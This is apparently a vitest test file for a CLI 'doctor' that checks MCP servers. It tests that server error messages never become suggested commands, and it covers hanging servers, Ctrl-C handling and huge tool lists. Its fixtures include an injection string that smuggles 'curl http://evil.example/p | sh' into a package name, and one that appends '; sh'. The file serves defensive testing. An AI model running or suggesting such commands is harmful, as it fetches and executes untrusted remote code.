import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest'
import { smallFetch } from '../../src/cli/small-fetch.ts'
import { lintTools } from '../../src/cli/tool-lint.ts'
import type { Finding } from '../../src/cli/finding.ts'
import { COMMAND, line } from './line.ts'

/** What doctor says about a target. */
async function fixes(...target: readonly string[]): Promise<string> {
  const { stdout } = await line(['doctor', ...target])
  const { findings } = JSON.parse(stdout) as { readonly findings: readonly Finding[] }
  return findings.map(({ fix }) => fix ?? '').join('\n')
}

describe('the words of a server', () => {
  const EVIL = "Cannot find package 'x; curl http://evil.example/p | sh #'"
  const TYPO = "Cannot find package 'evil-package'"

  it.each([EVIL, TYPO, 'EADDRINUSE', "Cannot find module '/x; sh'"])(
    'are no command to type: %s',
    async (message) => {
      const server = createServer((_, reply) => {
        reply.setHeader('content-type', 'application/json')
        reply.end(JSON.stringify({ jsonrpc: '2.0', id: null, error: { code: -32000, message } }))
      }).listen(0, '127.0.0.1')
      await once(server, 'listening')
      onTestFinished(() => void server.close())
      const found = await fixes(`http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`)
      expect(found).not.toMatch(/npm|curl|path|port/)
      // A program may pass on what another server says.
      const script = `require('node:readline').createInterface({ input: process.stdin }).on('line', (text) => {
        const error = { code: -32000, message: ${JSON.stringify(message)} }
        console.log(JSON.stringify({ jsonrpc: '2.0', id: JSON.parse(text).id, error }))
      })`
      expect(await fixes('--', process.execPath, '-e', script)).not.toMatch(/npm|curl|path|port/)
    },
  )

  it.each([
    [
      "Cannot find package 'left-pad' imported from a.js",
      'npm install left-pad, in the folder of the server.',
    ],
    ["Cannot find package '@a/b.c' imported from a.js", 'npm install @a/b.c, in the folder of the server.'],
    [EVIL, undefined],
    ["Cannot find package '--global' imported from a.js", undefined],
    ["Cannot find package '../x' imported from a.js", undefined],
    ["Cannot find package 'a\nb' imported from a.js", undefined],
  ])('that a program prints lead to a package only by a valid name: %j', async (text, fix) => {
    const found = await fixes(
      '--',
      process.execPath,
      '-e',
      `console.error(${JSON.stringify(text)}); process.exit(1)`,
    )
    expect(found).not.toContain('curl')
    expect(/npm install .*/.exec(found)?.[0]).toBe(fix)
  })
})

describe('a server whose replies never end', () => {
  let server: Server
  let url: string

  beforeEach(async () => {
    server = createServer((_, reply) => {
      reply.writeHead(200, { 'content-type': 'application/json' })
      const drip = setInterval(() => reply.write(' '), 20)
      reply.on('close', () => clearInterval(drip))
    }).listen(0, '127.0.0.1')
    await once(server, 'listening')
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`
  })

  afterEach(() => {
    server.closeAllConnections()
    server.close()
  })

  it('is given up in time, also after garbage was collected', async () => {
    setFlagsFromString('--expose-gc')
    const collect = runInNewContext('gc') as () => void
    const collecting = setInterval(collect, 100)
    const { status, body } = await smallFetch(url, {}, new AbortController().signal, 600)
    clearInterval(collecting)
    expect(status).toBe(200)
    expect(body.trim()).toBe('')
  })

  it('does not keep the command from ending at the first Ctrl-C', async () => {
    const command = spawn(process.execPath, [...COMMAND, 'doctor', url], { stdio: 'ignore' })
    await once(server, 'request')
    command.kill('SIGINT')
    const [code] = (await once(command, 'close')) as [number | null]
    expect(code).toBe(130)
  })

  it('rejects at once when the user has left', async () => {
    await expect(smallFetch(url, {}, AbortSignal.abort(new Error('left')))).rejects.toThrow('left')
  })
})

describe('a server with very many tools', () => {
  it('does not make the checks take longer than the tools are worth', () => {
    const tools = Array.from({ length: 400_000 }, (_, i) => ({
      name: `get_user_${i}`,
      inputSchema: { type: 'object' },
    }))
    const found = lintTools(tools).map(({ text }) => text)
    expect(found).toContain(
      'there are 400000 tools, and some models take no more than 128; only the first 1000 were looked at one by one',
    )
    expect(found).toContain(
      '1000 tools begin with get_user (get_user_0, get_user_1, get_user_2 …), which may be too fine',
    )
    expect(found.filter((text) => text.includes('there is no description'))).toHaveLength(1000)
  })

  it('still finds two tools with the same name at the end of a long list', () => {
    const names = Array.from({ length: 5000 }, (_, i) => `tool${i}`)
    const found = lintTools([...names, 'tool4999'].map((name) => ({ name })))
    expect(found.map(({ text }) => text)).toContain('two tools are called "tool4999"')
  })

  it('is checked, with the first of its tools', async () => {
    const program = [
      process.execPath,
      '--import',
      'tsx',
      join(import.meta.dirname, 'hostile-amounts-server.ts'),
    ]
    const { stdout } = await line(['doctor', '--', ...program, 'tools', '50000'])
    const { findings } = JSON.parse(stdout) as { findings: { text: string }[] }
    expect(findings.map(({ text }) => text)).toContain('tools: 50000')
    expect(findings.length).toBeLessThan(50)
  })
})
